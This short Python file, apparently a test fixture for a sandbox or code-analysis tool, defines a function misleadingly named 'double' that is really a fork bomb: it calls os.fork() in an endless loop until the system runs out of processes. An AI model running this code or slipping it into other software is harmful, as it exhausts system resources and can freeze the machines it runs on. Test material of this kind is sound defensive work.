"""Forks without end.

most: 0
control: no
"""

import os

def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            return x
